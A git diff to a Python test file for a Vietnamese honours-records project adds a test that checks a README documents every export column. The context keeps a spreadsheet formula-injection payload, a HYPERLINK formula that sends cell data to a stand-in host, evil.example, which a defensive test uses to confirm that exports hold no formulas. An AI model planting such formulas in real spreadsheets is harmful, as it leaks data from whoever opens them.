@@ -10,13 +10,14 @@ import csv
 import datetime as dt
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
 
 from bangvang.core.honours import export, reader
 from bangvang.core.honours.model import Decision, HonourEntry, Issuer
-from conftest import Site
+from conftest import REPO, Site
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
 FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]
@@ -88,3 +89,11 @@ def test_published_spreadsheets_hold_no_formula(site: Site, monkeypatch: pytest.
     assert document["title"] == document["entries"][0]["title"] == document["issuer"]["name"] == HYPERLINK
     (province_row,) = json.loads((data / "tinh/tinh-ha-tinh.json").read_text(encoding="utf-8"))
     assert province_row["title"] == HYPERLINK
+
+
+def test_every_export_column_is_explained_for_editors() -> None:
+    readme = (REPO / "honours/README.md").read_text(encoding="utf-8")
+    section = readme.split("## 10. Dữ liệu mở", 1)[1].split("\n## ", 1)[0]
+    explained = set(re.findall(r"`([a-z_]+)`", section.split("| Cột | Nghĩa |", 1)[1].split("\n\n", 1)[0]))
+    assert set(export.EXPORT_COLUMNS) <= explained, set(export.EXPORT_COLUMNS) - explained
+    assert export.EXPORT_COLUMNS[-1] == "anchor"  # the manifest reads it as a row's last cell
